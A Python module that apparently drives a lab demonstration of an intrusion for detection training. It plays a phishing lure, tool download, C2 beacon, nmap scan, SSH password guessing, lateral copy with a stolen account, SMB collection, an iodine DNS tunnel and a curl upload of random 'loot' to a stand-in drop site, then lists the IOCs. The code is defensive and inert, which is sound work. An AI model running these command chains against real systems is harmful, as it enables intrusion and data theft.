"""The demonstration's incident, step by step; every step writes its own entry in the diary.

A mail lures j.ortega to a download on pc-042; the tool calls home; from there the server segment
is scanned, a password of app-01 is guessed, the tool is copied over, files are collected from the
file server, a DNS tunnel is opened, and the loot leaves by HTTPS. Everything is inert: the tool is
filler, the implant only says hello, the loot is random bytes.
"""

from __future__ import annotations

import hashlib
import random
import time
from collections.abc import Mapping, Sequence
from pathlib import Path

from lab import clients, world
from lab.cage import STATE
from lab.crew import Crew, inside, python, run
from lab.internet import TUNNEL_SECRET, tool
from lab.rhythm import hands
from lab.steps import asked_for, on, open_entry
from lab.truth import Claim, Diary

ZERO, SECOND, RESOLVER = world.PATIENT_ZERO, world.SECOND_VICTIM, world.BY_NAME["ns-01"]
POWERSHELL = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682"
STOLEN = "svc-deploy"
TOOL_URL = f"http://{world.TOOL_SITE.name}{world.TOOL_PATH}"
COPY_PATH = ".cache/upd.bin"
SLEEP_S, JITTER = 22.0, 0.3
SCAN_RATE = ("--max-rate", "60", "--max-retries", "1")
UPLOAD_BYTES = 1_100_000
TUNNEL_BYTES = 24_000
GUESSES = 44

SCHEDULE = {
    "lure": 0.05,
    "download": 0.13,
    "beacon": 0.14,
    "scan": 0.28,
    "guess": 0.38,
    "copy": 0.52,
    "second-beacon": 0.54,
    "collect": 0.62,
    "tunnel": 0.66,
    "upload": 0.88,
}
"""When each step begins, as a share of the recording's time."""


class Intrusion:
    """The steps, done in order: a late step delays the next, nothing is skipped."""

    schedule: Mapping[str, float] = SCHEDULE

    def __init__(self, crew: Crew, diary: Diary, lasts_s: float, rng: random.Random) -> None:
        self.crew, self.diary, self.lasts_s, self.rng = crew, diary, lasts_s, rng
        self.began = time.monotonic()

    def run(self) -> None:
        """All steps."""
        for name, share in self.schedule.items():
            due = self.began + share * self.lasts_s
            time.sleep(max(0.0, due - time.monotonic()))
            print(f"intrusion: {name}", flush=True)
            getattr(self, name.replace("-", "_"))()

    def lure(self) -> None:
        """The mail."""
        mail = world.BY_NAME["mail-01"]
        claim = Claim(src=world.PHISH_SITE.ip, dst=mail.ip, port=25, protocol="tcp")
        entry = open_entry("lure", [claim], world.PHISH_SITE.name, [mail.name])
        entry.detail = {
            "recipient": f"{ZERO.user}@{world.DOMAIN}",
            "sender": "notice@parcel-notice.example",
            "url": TOOL_URL,
        }
        with self.diary.action(entry):
            run(*inside("crook", python("lab.errand", "lure", TOOL_URL)))

    def download(self) -> None:
        """The click: the page behind the link, then the tool."""
        site, content = world.TOOL_SITE, Path(tool()).read_bytes()
        claims = [Claim(src=ZERO.ip, dst=site.ip, port=80, protocol="tcp")]
        claims += asked_for(site.name, ZERO, RESOLVER)
        entry = open_entry("download", claims, ZERO.name, [site.name])
        digest = hashlib.sha256(content).hexdigest()
        entry.detail = {"url": TOOL_URL, "bytes": len(content), "sha256": digest}
        with self.diary.action(entry):
            page = f"http://{site.name}/track?p=8841"
            on(ZERO, *clients.CURL, "-A", clients.BROWSER, "-o", "/dev/null", page)
            time.sleep(2.5)
            on(ZERO, *clients.CURL, "-A", POWERSHELL, "-o", f"{STATE}/downloaded.exe", TOOL_URL)

    def beacon(self) -> None:
        """The tool calls home until the end."""
        self.implant("beacon", ZERO, world.C2_SITE, asked=(ZERO, RESOLVER))

    def second_beacon(self) -> None:
        """The copy calls the same home."""
        self.implant("second-beacon", SECOND, world.C2_SITE, asked=(SECOND,))

    def implant(
        self,
        name: str,
        machine: world.Machine,
        site: world.Site,
        *,
        port: int = 443,
        asked: Sequence[world.Machine],
    ) -> None:
        """Start calling; `asked` are the machines whose questions for the name are part of it."""
        claim = Claim(src=machine.ip, dst=site.ip, port=port, protocol="tcp")
        claims = [claim, *asked_for(site.name, *asked)]
        entry = open_entry(name, claims, machine.name, [site.name])
        entry.user = machine.user or STOLEN
        entry.detail = {
            "sleep_s": SLEEP_S,
            "jitter": JITTER,
            "tls": "1.2, self-signed",
        }
        self.diary.begin(entry)
        left = self.began + self.lasts_s - time.monotonic() - 2
        seed = self.rng.randrange(1 << 30)
        rhythm = (f"{left:.0f}", str(SLEEP_S), str(JITTER), str(seed))
        argv = python("lab.implant", site.name, str(port), *rhythm)
        self.crew.start(name, machine.name, argv)

    def scan(self) -> None:
        """Who is there, then which ports; this PC does nothing else there meanwhile."""
        target = world.SERVERS.net4
        claims = [Claim(src=ZERO.ip, dst=target, protocol=protocol) for protocol in ("tcp", "icmp")]
        entry = open_entry("scan", claims, ZERO.name, ["servers"])
        entry.detail = {"network": target, "program": "nmap", "ports": "top 200"}
        hosts = [machine.ip for machine in world.SERVER_MACHINES]
        with hands(ZERO.name), self.diary.action(entry):
            on(ZERO, "nmap", "-n", "-sn", "-PE", "-PS443", *SCAN_RATE, target)
            on(ZERO, "nmap", "-n", "-Pn", "-sT", "--top-ports", "200", *SCAN_RATE, *hosts)

    def guess(self) -> None:
        """Passwords, one login each; the last one opens."""
        entry = open_entry("guess", [_ssh()], ZERO.name, [SECOND.name])
        entry.detail = {"logins": GUESSES, "account_opened": STOLEN, "outcome": "success"}
        with self.diary.action(entry):
            said = on(ZERO, *python("lab.guesser", SECOND.ip, str(GUESSES), "1.2")).splitlines()
        if not said or not said[-1].endswith("opened"):
            raise RuntimeError(f"the password guessing did not end in success: {said[-2:]}")

    def copy(self) -> None:
        """The tool moves to the server, and is looked after there."""
        entry = open_entry("copy", [_ssh()], ZERO.name, [SECOND.name])
        entry.detail = {"account": STOLEN, "path": f"/home/{STOLEN}/{COPY_PATH}"}
        target = f"{STOLEN}@{SECOND.ip}"
        password = ("sshpass", "-p", world.PASSWORDS[STOLEN])
        log_in = (*password, "ssh", *clients.SSH_OPTIONS, target)
        with self.diary.action(entry):
            on(ZERO, *log_in, "mkdir -p .cache; id; uname -a")
            on(ZERO, *password, "scp", *clients.SSH_OPTIONS, tool(), f"{target}:{COPY_PATH}")
            on(ZERO, *log_in, f"sha256sum {COPY_PATH}")

    def collect(self) -> None:
        """The server reads the whole share with the stolen account."""
        files = world.BY_NAME["fs-01"]
        claim = Claim(src=SECOND.ip, dst=files.ip, port=445, protocol="tcp")
        entry = open_entry("collect", [claim], SECOND.name, [files.name])
        entry.user, entry.detail = STOLEN, {"share": "projects"}
        loot = STATE / "loot"
        loot.mkdir()
        script = f"lcd {loot}; recurse on; prompt off; mget *"
        with self.diary.action(entry):
            on(SECOND, *clients.smb_argv(SECOND.name, STOLEN, script))

    def tunnel(self) -> None:
        """A tunnel by iodine through the company's own resolver, with a little data inside."""
        lasts_s = min(200.0, 0.16 * self.lasts_s)
        claims = asked_for(world.TUNNEL_ZONE, ZERO, RESOLVER)
        entry = open_entry("tunnel", claims, ZERO.name, [RESOLVER.name, world.TUNNEL_SITE.name])
        entry.detail = {"zone": world.TUNNEL_ZONE, "program": "iodine", "bytes": TUNNEL_BYTES}
        with self.diary.action(entry):
            began = time.monotonic()
            argv = ["iodine", "-f", "-r", "-P", TUNNEL_SECRET, RESOLVER.ip, world.TUNNEL_ZONE]
            self.crew.start("iodine", ZERO.name, argv)
            self._await_tunnel()
            on(ZERO, *python("lab.errand", "tunnel", str(TUNNEL_BYTES)))
            time.sleep(max(0.0, lasts_s - (time.monotonic() - began)))
            self.crew.end("iodine")

    def _await_tunnel(self) -> None:
        for _ in range(200):
            if "10.99.0." in on(ZERO, "ip", "-4", "addr", "show"):
                return
            time.sleep(0.2)
        raise RuntimeError("the DNS tunnel did not come up; its log is iodine.log")

    def upload(self) -> None:
        """The loot leaves."""
        site, loot = world.DROP_SITE, STATE / "loot.bin"
        loot.write_bytes(self.rng.randbytes(UPLOAD_BYTES))
        claim = Claim(src=SECOND.ip, dst=site.ip, port=443, protocol="tcp")
        claims = [claim, *asked_for(site.name, SECOND, RESOLVER)]
        entry = open_entry("upload", claims, SECOND.name, [site.name])
        entry.user, entry.detail = STOLEN, {"bytes": UPLOAD_BYTES}
        send = ("-k", "-A", "curl/7.88.1", "-H", "Expect:", "--data-binary", f"@{loot}")
        with self.diary.action(entry):
            url = f"https://{site.name}/api/upload"
            on(SECOND, *clients.CURL, *send, "-o", "/dev/null", url)


def _ssh() -> Claim:
    return Claim(src=ZERO.ip, dst=SECOND.ip, port=22, protocol="tcp")


def indicators() -> list[dict[str, str]]:
    """What a responder should end up with, and block."""
    roles = {
        "download": world.TOOL_SITE,
        "command_and_control": world.C2_SITE,
        "exfiltration": world.DROP_SITE,
        "dns_tunnel": world.TUNNEL_SITE,
        "phishing": world.PHISH_SITE,
    }
    found = [
        {"type": kind, "value": value, "role": role}
        for role, site in roles.items()
        for kind, value in (("ipv4", site.ip), ("domain", site.name))
    ]
    digest = hashlib.sha256(Path(tool()).read_bytes()).hexdigest()
    return [
        *found,
        {"type": "domain", "value": world.TUNNEL_ZONE, "role": "dns_tunnel"},
        {"type": "sha256", "value": digest, "role": "tool"},
        {"type": "account", "value": STOLEN, "role": "stolen"},
    ]
